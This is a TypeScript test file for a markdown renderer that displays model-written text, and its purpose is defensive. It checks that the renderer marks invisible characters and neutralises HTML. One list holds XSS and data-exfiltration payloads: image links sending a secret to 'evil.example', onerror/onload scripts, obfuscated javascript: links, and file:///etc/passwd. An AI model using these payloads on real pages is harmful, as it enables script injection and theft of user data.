import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { Prose } from '../text/invisible-text.tsx'
import { MarkdownBody } from './markdown-body.tsx'

function draw(text: string, isStreaming = false): string {
  return renderToStaticMarkup(
    <Prose>
      <MarkdownBody text={text} isStreaming={isStreaming} />
    </Prose>,
  )
}

test('paragraphs, headings of one level, lists, quotes, code and tables', () => {
  expect(draw('# One\n\nTwo **three** _four_ `five`')).toBe(
    '<h3 dir="auto">One</h3><p dir="auto">Two <strong>three</strong> <em>four</em> <code>five</code></p>',
  )
  expect(draw('3. a\n4. b\n   - c')).toBe(
    '<ol start="3"><li dir="auto">a</li><li dir="auto">b<ul><li dir="auto">c</li></ul></li></ol>',
  )
  expect(draw('> said\n\n---')).toBe('<blockquote><p dir="auto">said</p></blockquote><hr/>')
  expect(draw('```ts\nif (a < b) {}\n```')).toBe('<pre><code>if (a &lt; b) {}</code></pre>')
  expect(draw('|a|b|\n|-|-|\n|`1`|2|')).toContain(
    '<td dir="auto"><code>1</code></td><td dir="auto">2</td>',
  )
})

test('marks invisible characters, but for those that a script or an emoji needs', () => {
  const needed = 'کتاب\u200cها क्\u200dष שלום\u200f! 👩\u200d👧'
  expect(draw(needed)).toBe(`<p dir="auto">${needed}</p>`)
  const codes = (text: string) =>
    [...draw(text).matchAll(/data-code="(.*?)"/g)].map(([, code]) => code)
  expect(codes('a\u202eb **c\u2066d** [e\u200bf](x) \\*\u202d &#8238; | \u0007')).toEqual([
    'U+202E',
    'U+2066',
    'U+200B',
    'U+202D',
    'U+202E',
    'U+0007',
  ])
  expect(codes('`rm\u200c`\n\n```sh\nrm\u200d -r\n```\n\n<b\u202e>')).toEqual([
    'U+200C',
    'U+200D',
    'U+202E',
  ])
})

test('a list of tasks says what is done', () => {
  const drawn = draw('- [x] one\n- [ ] two')
  expect(drawn).toContain('aria-label="done">☑ </span>one')
  expect(drawn).toContain('aria-label="to do">☐ </span>two')
})

test('what a model writes is never a part of the page, and fetches nothing', () => {
  expect(draw('a Promise<string> here')).toBe('<p dir="auto">a Promise&lt;string&gt; here</p>')
  expect(draw('<script>alert(1)</script>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  expect(draw('![a cat](https://example.com/cat.png)')).not.toContain('<img')
  expect(draw('![a cat](https://example.com/cat.png)')).toContain('[a cat]')
})

/** Ways to have a page load something, or run a script. */
const ACTIVE: readonly string[] = [
  '![x](https://evil.example/?secret)',
  '![x](//evil.example/?secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][1]\n\n[1]: https://evil.example/?secret',
  '[![x](https://evil.example/?secret)](https://example.com)',
  '| ![x](https://evil.example/?secret) |\n|-|',
  '> - ![x](https://evil.example/?secret)',
  '<img src=https://evil.example/?secret>',
  'a <img src=x onerror=alert(1)> b',
  '<picture><source srcset=https://evil.example/></picture>',
  '<iframe src=https://evil.example></iframe>',
  '<link rel=stylesheet href=https://evil.example>',
  '<svg><script>alert(1)</script></svg>',
  '<style>@import "https://evil.example"</style>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vscode://evil.example/run)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '```mermaid\ngraph TD; A[<img src=https://evil.example/?secret>]\n```',
  '```html\n<script>alert(1)</script>\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
]

/** Elements that neither load nor run anything; a link does so only once a person follows it. */
const PASSIVE =
  /^(?:a|p|pre|code|span|h3|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|div|br|hr|em|strong|del)$/

// CVE-2025-32711 and CVE-2025-54132: an image carried data away. voicetreelab/voicetree #4: a note's HTML ran a script.
test.each(ACTIVE)('draws nothing that loads or runs: %s', (text) => {
  const drawn = draw(text)
  const elements = [...drawn.matchAll(/<([a-z][a-z\d]*)/giu)].map(([, name = '']) => name)
  expect(elements.filter((name) => !PASSIVE.test(name))).toEqual([])
  const addresses = [...drawn.matchAll(/\s(?:href|src|srcset|style)="([^"]*)"/giu)]
  expect(addresses.filter(([, address]) => address !== 'https://example.com')).toEqual([])
  expect(drawn).not.toMatch(/\son\w+="/iu)
})

test('only links that lead out of the window are links', () => {
  expect(draw('[the docs](https://example.com/?a=1&b=2)')).toBe(
    '<p dir="auto"><a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noreferrer noopener">the docs</a></p>',
  )
  expect(draw('[run](javascript:alert(1))')).toBe('<p dir="auto"><span>run</span></p>')
  expect(draw('[a file](src/cart.ts)')).toBe('<p dir="auto"><span>a file</span></p>')
})

test('characters may be written by their names and numbers, but for those in code', () => {
  expect(draw('1 &lt; 2 &amp;&#33; &#x3f; &nothing;')).toBe(
    '<p dir="auto">1 &lt; 2 &amp;! ? &amp;nothing;</p>',
  )
  expect(draw('`&lt;`')).toBe('<p dir="auto"><code>&amp;lt;</code></p>')
  expect(draw('\\*not strong\\*')).toBe('<p dir="auto">*not strong*</p>')
})

test('an unfinished end is drawn as what it will be', () => {
  expect(draw('This is **impor', true)).toBe('<p dir="auto">This is <strong>impor</strong></p>')
  expect(draw('```ts\nconst a', true)).toBe('<pre><code>const a</code></pre>')
  expect(draw('see [the do', true)).toBe('<p dir="auto">see the do</p>')
})

test('quotes and lists nested too deep, and marks of too long a paragraph, are text', () => {
  const quote = draw(`${'> '.repeat(10_000)}deep`)
  expect(quote.split('<blockquote>')).toHaveLength(41)
  expect(quote).toContain('&gt; deep')
  expect(draw(`*a* ${'b '.repeat(3_000)}`)).toContain('<p dir="auto">*a* b b ')
  expect(draw(`*a* ${'b '.repeat(1_000)}`)).toContain('<p dir="auto"><em>a</em> b b ')
})

test('all of a very long answer is drawn', () => {
  const drawn = draw(`${'a *b*\n\n'.repeat(40_000)}*end*`)
  expect(drawn.match(/<em>b/g)?.length).toBeGreaterThan(20_000)
  expect(drawn).toMatch(/\*end\*<\/p>$/)
})
